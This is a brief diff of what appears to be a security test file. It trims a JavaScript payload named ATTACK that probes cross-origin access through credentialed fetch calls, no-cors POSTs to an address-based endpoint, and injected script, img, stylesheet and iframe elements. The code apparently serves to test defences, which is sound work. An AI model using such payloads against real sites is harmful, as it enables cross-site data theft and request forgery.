@@ -138,8 +138,6 @@ ATTACK = """async (address) => {
     const found = [
         await tried(fetch(texts)),
         await tried(fetch(texts, { mode: "no-cors", credentials: "include" })),
-        await tried(fetch(`${address}state`)),
-        await tried(fetch(`${address}state`, { mode: "no-cors" })),
         await tried(fetch(`${address}marks`, { method: "POST", mode: "no-cors", body })),
         await tried(fetch(`${address}marks`, { method: "POST", body, headers: json })),
     ];
@@ -150,7 +148,6 @@ ATTACK = """async (address) => {
         document.body.append(element);
     });
     found.push(await made("script", { src: texts }), await made("img", { src: texts }));
-    found.push(await made("script", { src: `${address}state` }));
     found.push(await made("link", { rel: "stylesheet", href: texts }));
     await made("iframe", { src: texts });
     let inside = null;
